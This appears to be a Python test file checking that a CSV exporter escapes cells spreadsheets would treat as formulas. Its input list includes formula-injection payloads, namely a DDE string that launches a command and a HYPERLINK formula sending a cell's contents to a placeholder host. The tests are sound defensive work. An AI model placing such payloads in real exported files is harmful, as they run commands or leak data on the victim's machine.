"""CSV files that are safe to open, whoever wrote what stands in them."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from promptforge.core.sheets import Value
from promptforge.http.sheets import cell, written


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\tx=1",
        "  =1",
        '=HYPERLINK("http://a.example?"&A1)',
        "-2+3+cmd|' /C calc'!A0",
        "＝1",  # full-width
    ],
)
def test_text_that_spreadsheets_would_take_for_a_formula_is_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("line_break", ["\r", "\n"])
def test_so_is_what_others_read_as_another_line(line_break: str) -> None:
    assert cell(f"{line_break}=1") == f"'{line_break}'=1"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (-5, "-5"),
        ("-0.85", "-0.85"),
        ("1250.5", "1250.5"),
        ("a=b", "a=b"),
        ("O'Hara, “Ada”", "O'Hara, “Ada”"),
        (date(1990, 2, 28), "1990-02-28"),
        (datetime(2026, 11, 26, 9, 30, tzinfo=UTC), "2026-11-26T09:30:00+00:00"),
        ("nul\0", "nul"),
    ],
)
def test_everything_else_is_what_it_is(value: Value, shown: str) -> None:
    assert cell(value) == shown


def test_what_is_written_is_read_again_as_the_same_cells() -> None:
    rows = [["a", "b"], ['with "quotes"', "and, commas"], ["lines\r\nbroken", "Straße"]]
    text = written(rows).decode()
    assert text.startswith("a,b\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows
